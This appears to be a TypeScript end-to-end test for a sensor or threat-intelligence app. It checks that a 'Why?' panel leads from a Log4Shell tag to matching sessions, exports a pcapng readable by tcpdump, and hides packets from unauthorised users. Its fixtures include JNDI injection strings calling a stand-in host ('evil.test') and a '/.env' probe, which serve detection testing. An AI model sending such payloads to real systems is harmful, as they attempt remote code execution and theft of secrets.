import { spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { dissected } from '#packet/testing/dissected.ts'
import { browserAt, makeOwner } from '../api/account-browser.ts'
import { person } from '../api/matrix-callers.ts'
import { captureOf, webVisit } from '../product/captures.ts'
import { openInside, type Inside } from '../product/inside.ts'
import { violations } from './accessible.ts'
import { openBrowser } from './open.ts'
import { alive, sideways, visit } from './visitor.ts'

/** "Why?" leads from a tag to its rule, to the sessions it matched, and to their packets, for whoever may see them. */

let inside: Inside
let browser: Browser
const owner = browserAt(() => inside.url)
const ip = '198.18.1.1'
const page = `/ip/${ip}`

beforeAll(async () => {
  ;[inside, browser] = [await openInside(), await openBrowser()]
  await makeOwner(owner, inside)
  const at = Date.now() - 600_000
  const capture = captureOf([
    webVisit(ip, { uri: '/?x=${jndi:ldap://evil.test/a}', userAgent: 'curl/8.5.0' }, at),
    webVisit(ip, { uri: '/.env', userAgent: 'curl/8.5.0' }, at + 1000),
    webVisit('198.18.1.2', { uri: '/?x=${jndi:ldap://evil.test/b}' }, at + 2000),
  ])
  const key = readFileSync(join(inside.dataFolder, 'local-key'), 'utf8').trim()
  await fetch(new URL('/api/ingest/captures?sensor=door', inside.url), {
    method: 'POST',
    headers: { key },
    body: new Uint8Array(capture),
  })
  const record = async () => (await fetch(new URL(`/api${page}`, inside.url))).json()
  await vi.waitFor(
    async () => expect(await record()).toMatchObject({ internet_scanner_intelligence: { found: true } }),
    { timeout: 600_000, interval: 200 },
  )
})
afterAll(async () => {
  await browser?.close()
  await inside?.close()
})

test('from "Why?" to a pcapng of one session that tcpdump reads', async () => {
  const visitor = await visit(browser, inside.url)
  const seen = visitor.page
  await seen.context().addCookies([...owner.jar].map(([name, value]) => ({ name, value, url: inside.url })))
  for (const [width, colorScheme] of [
    [390, 'dark'],
    [1440, 'light'],
  ] as const) {
    await seen.setViewportSize({ width, height: 900 })
    await seen.emulateMedia({ colorScheme })
    await seen.goto(page)
    await alive(seen)
    await seen
      .getByRole('link', { name: /^What matched of .*Log4/ })
      .first()
      .click()
    await seen.getByText('at door').waitFor()
    expect([await violations(seen), await sideways(seen)]).toEqual([[], []])
  }
  const why = seen.getByRole('region', { name: 'Why?' })
  await why.getByText('The newest of them in your workspace').waitFor()
  expect(await why.getByRole('link', { name: /packets of the session/ }).count()).toBe(1)
  const coming = seen.waitForEvent('download')
  await why.getByRole('link', { name: /packets of the session/ }).click()
  const download = await coming
  expect(download.suggestedFilename()).toMatch(/^session-\w+\.pcapng$/)
  const path = await download.path()
  const { conversations } = await dissected(readFileSync(path))
  expect(conversations.map(({ source, http }) => [source.ip, http?.requests.length])).toEqual([[ip, 1]])
  const { stdout, status, error } = spawnSync('tcpdump', ['-nn', '-r', path], { encoding: 'utf8' })
  // A machine without tcpdump has read the file by our own reader alone.
  if (!error) {
    expect(status).toBe(0)
    expect(stdout).toContain(`IP ${ip}.`)
    expect(stdout).not.toContain('198.18.1.2')
  }
  expect(visitor.problems).toEqual([])
  await visitor.leave()
})

test('who may not see packets is told what lacks, or nothing', async () => {
  const { deps } = inside
  const [{ id: ours } = { id: '' }] = await deps.installation.workspaces.list()
  const text = async (headers: Record<string, string>) =>
    (await fetch(new URL(`${page}?why=log4shell`, inside.url), { headers })).text()
  const exported = /\/api\/workspace\/sessions\/\w+\/export/

  const visited = await text({})
  expect(visited).toContain('What matched, alike sessions together')
  expect(visited).not.toMatch(exported)
  expect(visited).not.toContain('feature-sensors')

  const community = await person(inside, 'c', ({ offerings }) => offerings.community, {
    offering: 'community',
    of: ours,
  })
  const lacking = await text(community.headers)
  expect(lacking).toContain('feature-sensors')
  expect(lacking).not.toMatch(exported)

  const member = await person(inside, 'm', ({ offerings }) => offerings.enterprise, {
    offering: 'enterprise',
    of: ours,
  })
  expect(await text(member.headers)).toMatch(exported)
  const other = await person(inside, 'o', ({ offerings }) => offerings.enterprise, { offering: 'enterprise' })
  const theirs = await text(other.headers)
  expect(theirs).toContain('None of these sessions is of your workspace')
  expect(theirs).not.toMatch(exported)
})
